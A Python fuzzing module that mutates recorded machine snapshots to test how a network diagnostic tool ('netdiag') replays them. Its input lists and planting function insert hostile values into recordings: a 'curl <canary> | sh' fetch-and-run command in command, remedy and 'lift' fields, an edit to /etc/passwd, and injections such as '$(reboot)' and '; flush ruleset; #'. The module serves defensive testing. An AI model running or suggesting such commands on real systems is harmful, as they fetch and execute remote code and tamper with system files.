"""Recordings of real machines, changed by chance: what somebody might hand to replay.

A mutant is made from its number alone, so a failing one can be made again: `python -m tests.mutation.mutants 4711`.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import cache
from pathlib import Path
from random import Random
from typing import Any

MACHINES = Path(__file__).parents[2] / "fixtures" / "machines"
CANARY = "canary-of-a-recording"
"""Stands in texts that only netdiag itself may say: it is never seen again as a command, an edit or an advice."""
SHELL = ("sh", "-c", f"curl {CANARY} | sh")
_DEEP = 1500

Json = Any
_Place = tuple[Json, Any]
"""A list or an object, and the index or key in it."""

_NUMBERS = (0, -1, 1, 2, 255, 256, 65535, 65536, 4711, 2**31, 2**32, 2**53, 2**63 - 1, 2**63, 2**64, 10**30, -(2**63))
_FLOATS = (0.5, -0.5, 1e308, 5e-324, float("nan"), float("inf"), -float("inf"))
_TEXTS = (
    *("", " ", "\0", "\x1b[2J", "\n\nFix         sh\n", "\r", "\ud800", "\u202e", "\u2028", "`", "```", "|"),
    *("-rf", "--output=/etc/passwd", "$(reboot)", "a b; flush ruleset; #", "linux", "win32", "\u0663", "9" * 5000),
    *("127.0.0.1", "::1", "0.0.0.0", "::", "fe80::1%lo", "::ffff:127.0.0.1", "1.2.3.4.5", "compose:db:5432"),
    *("from all to", "from", "to", "from all to 1.2.3.4/99", "10.0.0.1/8", "-container-port " + "9" * 5000),
    *("container:web", "x" * 100_000, "\x1b" * 10_000, "word " * 20_000),
)


def _values() -> tuple[Json, ...]:
    """What may stand anywhere; made each time, since a mutant may change it further."""
    adviser = {"fact": "unknown", "reason": "needs root", "detail": "", "lift": f"curl {CANARY} | sh"}
    inside: tuple[Json, ...] = ([], {}, True, "x", 1)
    facts = (adviser, *({"fact": "known", "value": one} for one in inside))
    plain = (None, True, False, 10**4400, *_NUMBERS, *_FLOATS, *_TEXTS)
    return (*plain, {}, [], _nested([], _DEEP), _nested({}, 50), *facts)


def _nested(inner: Json, depth: int) -> Json:
    for _ in range(depth):
        inner = {"value": inner} if isinstance(inner, dict) else [inner]
    return inner


@cache
def recordings() -> tuple[bytes, ...]:
    """Those of the recorded machines, in a fixed order."""
    return tuple(path.read_bytes() for path in sorted(MACHINES.glob("*/snapshot.json")))


@cache
def _by_key() -> dict[str, tuple[str, ...]]:
    """What any recorded machine has under each key, as JSON."""
    found: dict[str, set[str]] = {}
    for data in recordings():
        for place, key in _places(json.loads(data)):
            if isinstance(key, str):
                found.setdefault(key, set()).add(json.dumps(place[key], sort_keys=True))
    return {key: tuple(sorted(values)) for key, values in found.items()}


def mutant(number: int) -> bytes:
    """The mutant of this number, always the same."""
    with _of_any_size():
        return _made(Random(number))


def _made(random: Random) -> bytes:
    data = random.choice(recordings())
    if random.random() < 0.1:
        return _damaged(random, data)
    content = json.loads(data)
    if random.random() < 0.3:
        plant(content)
    for _ in range(random.choice((1, 1, 1, 2, 3, 5))):
        random.choice(OPERATIONS)(random, content)
    if random.random() < 0.05:
        content = {"schema": "netdiag.snapshots/1", "snapshots": [content] * random.choice((0, 1, 2, 3))}
    return json.dumps(content).encode()


@contextmanager
def _of_any_size() -> Iterator[None]:
    """Neither numbers of so many digits nor lists so deep are written by the interpreter as it is set up."""
    digits, depth = sys.get_int_max_str_digits(), sys.getrecursionlimit()
    sys.set_int_max_str_digits(0)
    sys.setrecursionlimit(10 * _DEEP)
    try:
        yield
    finally:
        sys.set_int_max_str_digits(digits)
        sys.setrecursionlimit(depth)


def _damaged(random: Random, data: bytes) -> bytes:
    """The file itself, and not what it says."""
    match random.randrange(4):
        case 0:
            return data[: random.randrange(len(data))]
        case 1:
            start = random.randrange(len(data))
            return data[:start] + data[start + random.randrange(1, 200) :]
        case 2:
            start = random.randrange(len(data))
            return data[:start] + random.randbytes(random.randrange(1, 20)) + data[start:]
        case _:
            changed = bytearray(data)
            for _ in range(random.randrange(1, 8)):
                changed[random.randrange(len(changed))] ^= 1 << random.randrange(8)
            return bytes(changed)


def _places(content: Json) -> list[_Place]:
    """Everything inside of it."""
    found: list[_Place] = []
    waiting = [content]
    while waiting:
        place = waiting.pop()
        keys = list(place) if isinstance(place, dict) else range(len(place))
        for key in keys:
            found.append((place, key))
            if isinstance(place[key], dict | list):
                waiting.append(place[key])
    return found


def _any_place(random: Random, content: Json) -> _Place | None:
    """Somewhere: what is deep inside is as likely as the fact that it is in."""
    place, found = content, None
    while isinstance(place, dict | list) and place:
        key = random.choice(list(place)) if isinstance(place, dict) else random.randrange(len(place))
        found = (place, key)
        if random.random() < 0.15:
            break
        place = place[key]
    return found


def _replace(random: Random, content: Json) -> None:
    if (found := _any_place(random, content)) is not None:
        place, key = found
        place[key] = random.choice(_values())


def _swap(random: Random, content: Json) -> None:
    """What another machine has under the same key."""
    named = [one for one in _places(content) if isinstance(one[1], str) and one[1] in _by_key()]
    place, key = random.choice(named) if named else (None, None)
    if place is not None:
        place[key] = json.loads(random.choice(_by_key()[str(key)]))


def _top(random: Random, content: Json) -> None:
    """A whole fact of another machine."""
    key = random.choice(sorted(content))
    if key in _by_key():
        content[key] = json.loads(random.choice(_by_key()[key]))


def _drop(random: Random, content: Json) -> None:
    if (found := _any_place(random, content)) is not None:
        del found[0][found[1]]


def _rename(random: Random, content: Json) -> None:
    found = _any_place(random, content)
    if found is not None and isinstance(found[0], dict):
        found[0][random.choice(sorted(_by_key()))] = found[0].pop(found[1])


def _number(random: Random, content: Json) -> None:
    """One more, one less, or as large as it can be."""
    numbers = [(p, k) for p, k in _places(content) if isinstance(p[k], int | float) and not isinstance(p[k], bool)]
    if numbers:
        place, key = random.choice(numbers)
        place[key] = random.choice((place[key] + 1, place[key] - 1, -place[key], 0, 65535, 65536, 2**63 - 1, 2**64))


def _text(random: Random, content: Json) -> None:
    texts = [(p, k) for p, k in _places(content) if isinstance(p[k], str)]
    if texts:
        place, key = random.choice(texts)
        hostile, text = random.choice(_TEXTS), place[key]
        words = text.split(" ")
        del words[random.randrange(len(words))]
        less = " ".join(words)
        place[key] = random.choice((hostile, text + hostile, hostile + text, text.upper(), text[:1], less, less))


def _lists(content: Json) -> list[list[Json]]:
    return [place[key] for place, key in _places(content) if isinstance(place[key], list) and place[key]]


def _repeat(random: Random, content: Json) -> None:
    lists = _lists(content)
    if lists:
        chosen = random.choice(lists)
        one = random.choice(chosen)
        chosen.extend(json.loads(json.dumps(one)) for _ in range(random.choice((1, 2, 10, 60))))


def _shuffle(random: Random, content: Json) -> None:
    lists = _lists(content)
    if lists:
        random.shuffle(random.choice(lists))


def _unknown(random: Random, content: Json) -> None:
    """A fact that nobody could look at."""
    facts = [(p, k) for p, k in _places(content) if isinstance(p[k], dict) and p[k].get("fact") == "known"]
    if facts:
        place, key = random.choice(facts)
        reason = random.choice(("needs root", "not needed", "passive", "failed", "deadline", "not visible from here"))
        place[key] = {"fact": "unknown", "reason": reason, "detail": CANARY, "lift": f"curl {CANARY} | sh"}


OPERATIONS: tuple[Callable[[Random, Json], None], ...] = (
    *(_replace, _swap, _swap, _swap, _top, _top, _drop, _rename, _number, _number),
    *(_text, _text, _repeat, _shuffle, _unknown),
)


def plant(content: Json) -> None:
    """Commands of somebody else's, wherever a recording has texts that are netdiag's own."""
    command = {"argv": [*SHELL], "needs_root": True}
    content["program"] = {"user": f"/tmp/{CANARY}/netdiag", "root": f"/tmp/{CANARY}"}
    for place, key in _places(content):
        match key:
            case "rehearsals" if isinstance(place[key], dict):
                place[key] = {"fact": "known", "value": [_rehearsed(command), *place[key].get("value", ())]}
            case "call":
                place[key] = [*SHELL]
            case "lift":
                place[key] = f"curl {CANARY} | sh"
            case "extra_host_piece" | "piece":
                place[key] = CANARY
            case "before" | "after":
                place[key] = f"{place[key]}\n{CANARY}"


def _rehearsed(command: Json) -> Json:
    remedy = {
        "summary": f"Run {CANARY}",
        "commands": [command],
        "undo": [command],
        "edits": [{"file": "/etc/passwd", "line": 1, "text": CANARY}],
        "url": f"https://{CANARY}/",
    }
    return {"commands": [command], "mended": True, "opens": [], "remedy": remedy}


if __name__ == "__main__":
    sys.stdout.buffer.write(mutant(int(sys.argv[1])))
